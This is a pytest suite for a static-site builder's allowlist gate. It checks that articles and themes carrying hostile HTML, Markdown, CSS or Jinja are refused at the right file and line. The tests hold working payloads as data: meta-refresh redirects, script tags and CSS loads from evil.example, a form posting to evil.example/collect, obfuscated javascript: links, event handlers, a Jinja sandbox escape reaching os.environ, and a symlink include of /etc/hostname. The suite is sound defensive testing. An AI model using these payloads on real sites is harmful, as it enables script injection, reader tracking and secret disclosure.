"""Safety by allowlist: what an attacker writes in an article or the theme never reaches readers.

Each class of bypass seen in the sources' old blocklist gets an article of its own in one copy
of the project; `invoke check` and `invoke build` run there for real, once each, and every
class must be named with its file and line while `output/` stays as it was.
"""

import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest
from jinja2 import Undefined

from conftest import FIXTURE_CONTENT, ROOT, append, build_site, copy_project, run_invoke, snapshot
from press.build.errors import BuildError

HEADER = """Title: {name}
Date: 2024-03-01
Author: FFHR Editorial Desk
Category: Families
Summary: An attack.

"""
EVIL = "https://evil.example"
# name -> (Markdown body, text on the line the problem must be reported at)
ARTICLE_ATTACKS = {
    # A redirect hidden where the old check's parser and Markdown disagreed.
    "comment-opened-and-closed-at-once": (
        f'Text.\n\n<!--><meta http-equiv="refresh" content="0;url={EVIL}/a">-->\n',
        f"{EVIL}/a",
    ),
    "comment-with-three-dashes": (
        f'Text.\n\n<!---><meta http-equiv="refresh" content="0;url={EVIL}/b">-->\n',
        f"{EVIL}/b",
    ),
    "cdata-section": (
        f'Text.\n\n<![CDATA[ x ]]><meta http-equiv="refresh" content="0;url={EVIL}/c">\n',
        f"{EVIL}/c",
    ),
    "code-span-with-unequal-backticks": (
        f'Text ``code` <meta http-equiv="refresh" content="0;url={EVIL}/d"> end.\n',
        f"{EVIL}/d",
    ),
    "indented-fence": (
        "Text.\n\n   ```python\n\n"
        f'<meta http-equiv="refresh" content="0;url={EVIL}/e">\n\n   ```\n',
        f"{EVIL}/e",
    ),
    "fence-never-closed": (
        f'Text.\n\n```\n<meta http-equiv="refresh" content="0;url={EVIL}/f">\n',
        f"{EVIL}/f",
    ),
    # What else the same tricks carried.
    "referrer-policy-override": (
        'Text.\n\n<!--><meta name="referrer" content="unsafe-url">-->\n',
        "unsafe-url",
    ),
    "base-element": (f'Text.\n\n<!--><base href="{EVIL}/base/">-->\n', f"{EVIL}/base/"),
    "svg-image-href": (
        f'Text.\n\n<svg><image href="{EVIL}/svg.png" width="1" height="1"/></svg>\n',
        f"{EVIL}/svg.png",
    ),
    "script": (f'Text.\n\n<![CDATA[ ]]><script src="{EVIL}/x.js"></script>\n', f"{EVIL}/x.js"),
    # Markdown's own constructs that the old check never looked at.
    "reference-link-definition": (
        "A [link][r] to follow.\n\n[r]: javascript:alert(document.domain)\n",
        "[r]: javascript:",
    ),
    "attribute-list-event-handler": ('A paragraph.\n{: onclick="alert(1)" }\n', "onclick"),
    "attribute-list-href": ('[a link](/en/){: href="javascript:alert(1)" }\n', "{: href"),
    "attribute-list-style": (
        f'A paragraph.\n{{: style="background: url({EVIL}/style.png)" }}\n',
        "style=",
    ),
    # URLs that mean something else to a browser than to a pattern.
    "scheme-with-tab-entity": ('<a href="java&#x09;script:alert(1)">x</a>\n', "java&#x09;"),
    "scheme-with-line-break": ('<a href="java\nscript:alert(1)">x</a>\n', 'href="java'),
    "scheme-with-colon-entity": ('<a href="javascript&colon;alert(1)">x</a>\n', "&colon;"),
    "scheme-with-leading-space-and-case": ('<a href=" JaVaScRiPt:alert(1)">x</a>\n', "JaVaScRiPt"),
    "data-url-image": ("![A dot](data:image/png;base64,iVBORw0KGgo=)\n", "data:image"),
    "backslash-host-image": ("![A photo](/\\evil.example/photo.png)\n", "evil.example"),
    "backslashes-host-link": ('<a href="\\\\evil.example/page">x</a>\n', "evil.example"),
    "protocol-relative-image": ('<img src="//evil.example/p.gif" alt="x">\n', "//evil.example"),
    "form": (f'<form action="{EVIL}/collect"><input name="q"></form>\n', "<form"),
    "iframe": (f'<iframe src="{EVIL}/embed"></iframe>\n', "<iframe"),
    "scheme-without-slashes-image": ("![x](https:evil.example/track.png)\n", "https:evil"),
    "intrasite-link-spanning-attributes": (
        "<span title='x href=\"{tag}a'>one</span> two <span title='b\">c'>three</span>\n",
        "{tag}a",
    ),
    "intrasite-link-to-another-host": ('<img alt="z" src="{tag}//evil.example/x">\n', "{tag}//"),
    # Tags whose attributes a browser gives to the page's own <body> and <html>.
    "body-attributes-onto-the-page": (
        "Text.\n\n<body aria-hidden=true dir=rtl role=presentation>\n",
        "<body aria-hidden",
    ),
    "html-attributes-onto-the-page": ("Text.\n\n<HTML lang=fr>\n", "<HTML lang"),
    # Elements left open, which the theme's own links and footer would be inside.
    "unclosed-strike-through": ("Text <s>struck, and never closed.\n", "<s>struck"),
    "unclosed-link": (f'Text <a href="{EVIL}/">linked, and never closed.\n', "linked, and"),
    "uppercase-tag-and-unquoted-attribute": (
        f"<IMG SRC={EVIL}/u.gif ALT=x>\n",
        "<IMG SRC",
    ),
}


def _invoke(project: Path, *args) -> subprocess.CompletedProcess:
    return run_invoke(project, *args)


def project_copy(folder: Path) -> Path:
    """A copy of the project's code, theme and catalogs, with the fixture content."""
    return copy_project(folder, FIXTURE_CONTENT)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A project whose output/ was built clean, then every attack added and checked and built."""
    project = project_copy(tmp_path_factory.mktemp("attacked"))
    clean = _invoke(project, "build")
    assert clean.returncode == 0, clean.stderr
    before = snapshot(project / "output")
    lines = {}
    for name, (body, marker) in ARTICLE_ATTACKS.items():
        text = HEADER.format(name=name) + body
        path = project / "content" / "en" / "articles" / f"attack-{name}.md"
        path.write_text(text, encoding="utf-8")
        lines[name] = next(n for n, line in enumerate(text.split("\n"), 1) if marker in line)
    return {
        "project": project,
        "before": before,
        "lines": lines,
        "check": _invoke(project, "check"),
        "build": _invoke(project, "build"),
    }


@pytest.mark.parametrize("name", ARTICLE_ATTACKS)
@pytest.mark.parametrize("command", ["check", "build"])
def test_every_bypass_is_refused_at_its_line(attacked, command, name):
    """`invoke check` and `invoke build` exit non-zero naming the article and the line."""
    result = attacked[command]
    assert result.returncode == 1
    where = f"content/en/articles/attack-{name}.md:{attacked['lines'][name]}: "
    named = [line for line in result.stderr.splitlines() if line.startswith(where)]
    assert named, f"nothing at {where} in:\n{result.stderr}"


def test_a_refused_build_leaves_output_as_it_was(attacked):
    """Nothing of a refused build is published: output/ has the same files, byte for byte."""
    assert snapshot(attacked["project"] / "output") == attacked["before"]
    assert "output/ left as it was" in attacked["build"].stderr


def test_the_problems_name_only_the_attacks(attacked):
    """The fixture's own articles and pages are not reported: the allowlist admits them."""
    for command in ("check", "build"):
        reported = {
            line.split(":", 1)[0]
            for line in attacked[command].stderr.splitlines()
            if line.startswith("content/")
        }
        assert reported == {f"content/en/articles/attack-{name}.md" for name in ARTICLE_ATTACKS}


# What a template or a style sheet of the theme could slip into every page: the last gate
# over published files refuses it, naming the output file and line.
THEME_ATTACKS = {
    "script": ("templates/base.html", "</footer>", '</footer><script>alert(1)</script>',
               "<script> runs code in readers' browsers"),
    "referrer-meta": ("templates/_head_meta.html", '<meta charset="utf-8">',
                      '<meta charset="utf-8"><meta name="referrer" content="unsafe-url">',
                      "<meta name=referrer> must say 'no-referrer'"),
    "refresh-meta": ("templates/_head_meta.html", '<meta charset="utf-8">',
                     f'<meta charset="utf-8"><meta http-equiv="refresh" content="0;url={EVIL}">',
                     "<meta http-equiv='refresh'>: not a value this site allows"),
    "base-elsewhere": ("templates/base.html", "{% block base %}{% endblock %}",
                       f'<base href="{EVIL}/">',
                       f"<base href='{EVIL}/'> makes readers' browsers load it from {EVIL}"),
    "prefetch": ("templates/base.html", "</head>", f'<link rel="prefetch" href="{EVIL}/"></head>',
                 "<link rel='prefetch'>: not a value this site allows for rel"),
    "event-handler": ("templates/base.html", '<body>', '<body onload="alert(1)">',
                      "<body onload=...> is an event handler"),
    "javascript-link": ("templates/base.html", "</footer>",
                        '<a href="javascript:alert(1)">x</a></footer>',
                        "<a href='javascript:alert(1)'> is a javascript: address"),
    "css-escaped-url": ("static/css/site.css", "", f"body {{ background: u\\72l({EVIL}/c.png) }}\n",
                        f"CSS '{EVIL}/c.png' makes readers' browsers load it from {EVIL}"),
    "css-import": ("static/css/site.css", "", f'@import "{EVIL}/i.css";\n',
                   f"CSS '{EVIL}/i.css' makes readers' browsers load it from {EVIL}"),
    "css-custom-property": ("static/css/site.css", "",
                            f':root {{ --u: "{EVIL}/v.png"; }} body {{ background: '
                            "image-set(var(--u) 1x) }\n",
                            f"CSS '{EVIL}/v.png' makes readers' browsers load it from {EVIL}"),
    "css-https-string-without-slashes": (
        "static/css/site.css", "",
        'body { background-image: image-set("https:evil.example/set.png" 1x) }\n',
        "CSS 'https:evil.example/set.png' makes readers' browsers load it from https://evil.example"),
    "css-in-utf-16": ("static/css/site.css", "", "\ufeffbody { background: url(x) }\n",
                      "is not UTF-8 text; save it as UTF-8"),
    "no-content-security-policy": (
        "templates/_head_meta.html",
        '<meta http-equiv="Content-Security-Policy" content="{{ CSP_META }}">', "",
        "the page lacks the site's Content-Security-Policy <meta http-equiv>"),
    "no-referrer-policy": ("templates/_head_meta.html",
                           '<meta name="referrer" content="no-referrer">', "",
                           'the page lacks <meta name="referrer" content="no-referrer">'),
    "robots-meta": ("templates/base.html", "</head>",
                    '<meta name="robots" content="noarchive"></head>',
                    "<meta name=robots> must say 'noindex' or 'noindex, nofollow'"),
    "xml-stylesheet": ("static/reports.xml", None,
                       '<?xml version="1.0"?>\n<?xml-stylesheet type="text/css" '
                       f'href="{EVIL}/x.css"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
                       "<title>Reports</title></feed>\n",
                       "<?xml-stylesheet ...?> is not allowed in the site's XML"),
}  # fmt: skip


@pytest.mark.parametrize("name", THEME_ATTACKS)
def test_theme_attacks_are_refused_by_the_last_gate(tmp_path, name):
    """A template or style sheet that writes what the page allowlist refuses stops the build."""
    project = project_copy(tmp_path / "project")
    file, old, new, message = THEME_ATTACKS[name]
    path = project / "theme" / file
    text = path.read_text(encoding="utf-8") if old is not None else ""
    assert old is None or old in text
    encoding = "utf-16" if name == "css-in-utf-16" else "utf-8"
    path.write_text(text.replace(old, new, 1) if old else new + text, encoding=encoding)
    result = _invoke(project, "build")
    assert result.returncode == 1
    assert not (project / "output").exists()
    problems = [line for line in result.stderr.splitlines() if message in line]
    assert problems, result.stderr
    for problem in problems:
        where, line = problem.split(":", 2)[:2]
        assert where.startswith("output/") and int(line) > 0


def test_a_refused_article_is_refused_again_not_served_from_the_cache(tmp_path, content):
    """Pelican caches what it read: a refused article must not come back from the cache."""
    article = content / "en" / "articles" / "english-only.md"
    article.write_text(
        article.read_text(encoding="utf-8") + '\n<p onclick="alert(1)">x</p>\n', "utf-8"
    )
    line = len(article.read_text(encoding="utf-8").splitlines())
    for _attempt in range(2):
        with pytest.raises(BuildError) as failure:
            build_site(tmp_path / "output", content)
        assert any(p.startswith(f"{article}:{line}: ") for p in failure.value.problems)
    assert not (tmp_path / "output").exists()


def test_a_verdict_kept_from_the_last_build_holds_only_for_the_same_site(tmp_path, content):
    """A cached article that passed is not judged again, unless what judges it changed: an
    image from the site's own address is local for one SITEURL and another host for the
    next, with the same content cache."""
    article = content / "en" / "articles" / "english-only.md"
    append(article, '\n<img src="http://localhost:8000/theme/css/site.css" alt="x">\n')
    line = len(article.read_text(encoding="utf-8").splitlines())
    output = tmp_path / "output"
    build_site(output, content, SITEURL="http://localhost:8000")
    build_site(output, content, SITEURL="http://localhost:8000")  # from the cache: still fine
    with pytest.raises(BuildError) as failure:
        build_site(output, content, SITEURL="https://example.org")
    assert [p.split(": ", 1)[0] for p in failure.value.problems] == [f"{article}:{line}"]


def test_an_update_that_adds_an_attack_is_refused(tmp_path, content):
    """An edit after a good build (an incremental update) is checked like a full build."""
    output = build_site(tmp_path / "output", content)
    before = snapshot(output)
    article = content / "en" / "articles" / "english-only.md"
    text = article.read_text(encoding="utf-8")
    article.write_text(text + "\n[a link][r]\n\n[r]: javascript:alert(1)\n", encoding="utf-8")
    line = len(article.read_text(encoding="utf-8").splitlines())
    with pytest.raises(BuildError) as failure:
        build_site(output, content)
    assert [p.split(": ", 1)[0] for p in failure.value.problems] == [f"{article}:{line}"]
    assert snapshot(output) == before
    article.write_text(text + "\n[a link](https://example.org/)\n", encoding="utf-8")
    build_site(output, content)
    assert snapshot(output) != before


def test_formatted_metadata_is_checked_like_the_body(tmp_path, content):
    """With a summary rendered as Markdown (FORMATTED_FIELDS), its HTML is checked too."""
    article = content / "en" / "articles" / "english-only.md"
    text = article.read_text(encoding="utf-8")
    article.write_text(
        text.replace("Summary: ", "Summary: [x](javascript:alert(1)) "), encoding="utf-8"
    )
    line = next(n for n, t in enumerate(text.splitlines(), 1) if t.startswith("Summary:"))
    with pytest.raises(BuildError) as failure:
        build_site(tmp_path / "output", content, FORMATTED_FIELDS=["summary"])
    assert [p.split(": ", 1)[0] for p in failure.value.problems] == [f"{article}:{line}"]


def test_templates_cannot_reach_python(tmp_path):
    """A template that walks from a function to `os` (to read the private names list, say) is
    stopped by Jinja's sandbox: the build fails and says so."""
    project = project_copy(tmp_path / "project")
    base = project / "theme" / "templates" / "base.html"
    reach = (
        "{% set os = cycler.__init__.__globals__.os %}"
        "<!-- {{ os.environ.get('PRIVATE_NAMES_FILE', 'none') }} -->"
    )
    base.write_text(base.read_text(encoding="utf-8").replace("</body>", reach + "</body>"))
    result = _invoke(project, "build")
    assert result.returncode == 1
    assert "SecurityError" in result.stderr and "__init__" in result.stderr
    assert not (project / "output").exists()


def test_the_sandbox_answers_as_jinjas_own():
    """The faster sandbox allows exactly what Jinja's ImmutableSandboxedEnvironment allows."""
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from press.rendering.multilingual import Sandbox

    def generator():
        yield 1

    async def coroutine():
        return 1

    async def async_generator():
        yield 1

    try:
        raise ValueError
    except ValueError as exc:
        traceback = exc.__traceback__
    running = coroutine()
    objects = [
        test_the_sandbox_answers_as_jinjas_own, Sandbox.is_safe_attribute, Sandbox().getattr,
        Sandbox, str, generator(), running, async_generator(), traceback, traceback.tb_frame,
        generator.__code__, "text", {"a": 1}, [1], {1}, 1, None, FIXTURE_CONTENT,
        BuildError("x"),
    ]  # fmt: skip
    names = [
        "mro", "__globals__", "__code__", "func_globals", "gi_frame", "gi_code", "cr_frame",
        "ag_frame", "tb_frame", "f_globals", "co_code", "__self__", "__func__", "upper", "format",
        "title", "_private", "__class__", "keys", "real", "name", "problems", "update", "append",
        "pop", "clear", "add", "setdefault", "extend", "get",
    ]  # fmt: skip
    # A str's format method, met as another object's attribute, is wrapped all the same.
    objects.append(SimpleNamespace(format="{0.__class__}".format, upper="x".upper, name="n"))
    ours, jinjas = Sandbox(), ImmutableSandboxedEnvironment()
    # Twice: the first meeting of a type teaches the faster sandbox its answer.
    for obj in objects * 2:
        for name in names:
            value = getattr(obj, name, None)
            assert ours.is_safe_attribute(obj, name, value) == jinjas.is_safe_attribute(
                obj, name, value
            ), (obj, name)
            assert _read(ours, obj, name) == _read(jinjas, obj, name), (obj, name)
    running.close()


def _read(env, obj, name):
    """What a template reading `obj.name` gets, comparable across environments."""
    value = env.getattr(obj, name)
    if isinstance(value, Undefined):
        return "undefined", type(value).__name__
    if getattr(value, "__wrapped__", None) is not None:
        return "wrapped", value.__wrapped__  # a str's format method, sandboxed
    return "value", value


def test_a_theme_cannot_read_files_through_a_symbolic_link(tmp_path):
    """A link in the theme to / would let a template include any file: check and build refuse."""
    project = project_copy(tmp_path / "project")
    templates = project / "theme" / "templates"
    (templates / "root").symlink_to("/")
    base = templates / "base.html"
    base.write_text(
        base.read_text(encoding="utf-8").replace(
            "</body>", '<!-- {% include "root/etc/hostname" %} --></body>'
        ),
        encoding="utf-8",
    )
    check = _invoke(project, "check")
    assert check.returncode == 1
    assert "theme/templates/root: a symbolic link" in check.stderr
    build = _invoke(project, "build")
    assert build.returncode == 1
    assert not (project / "output").exists()


def test_a_template_cannot_change_what_the_gates_judge_by(tmp_path):
    """Lists and dicts are read-only to templates: the settings the gates read stay as built."""
    project = project_copy(tmp_path / "project")
    head = project / "theme" / "templates" / "_head_meta.html"
    head.write_text(
        "{% if articles is defined and articles %}{% set _ = articles[0].settings.update("
        '{"CONTENT_SECURITY_POLICY": "default-src *"}) %}{% endif %}'
        + head.read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    result = _invoke(project, "build")
    assert result.returncode == 1
    assert "SecurityError" in result.stderr
    assert not (project / "output").exists()


def test_the_themes_images_are_published_clean(tmp_path):
    """A logo in the theme is re-encoded like a photo: no text chunk, no bytes after its end."""
    from PIL import Image, PngImagePlugin

    theme = tmp_path / "theme"
    shutil.copytree(ROOT / "theme", theme)
    chunks = PngImagePlugin.PngInfo()
    chunks.add_text("Author", "SECRET-AUTHOR")
    logo = theme / "static" / "logo.png"
    Image.new("RGB", (8, 8), "navy").save(logo, pnginfo=chunks)
    logo.write_bytes(logo.read_bytes() + b"SECRET-TRAILER")
    output = build_site(tmp_path / "output", THEME=str(theme))
    published = (output / "theme" / "logo.png").read_bytes()
    assert b"SECRET" not in published
    with Image.open(output / "theme" / "logo.png") as image:
        assert image.size == (8, 8)


def test_shared_files_are_named_from_an_allowlist_of_characters(tmp_path, content):
    """An image or document is published under its own name: quotes and spaces are refused."""
    from PIL import Image

    (content / "images").mkdir()
    Image.new("RGB", (4, 4)).save(content / "images" / "field.jpg")
    Image.new("RGB", (4, 4)).save(content / "images" / 'a" onerror="x.jpg')
    project = copy_project(tmp_path / "project", content)
    result = _invoke(project, "check")
    assert result.returncode == 1
    name = 'a" onerror="x.jpg'
    assert [line for line in result.stderr.splitlines() if "file name" in line] == [
        f"content/images/{name}: the file name '{name}' is published as it is: use lower-case "
        "letters, digits and single hyphens (e.g. field-report-2024.pdf); rename the file"
    ]
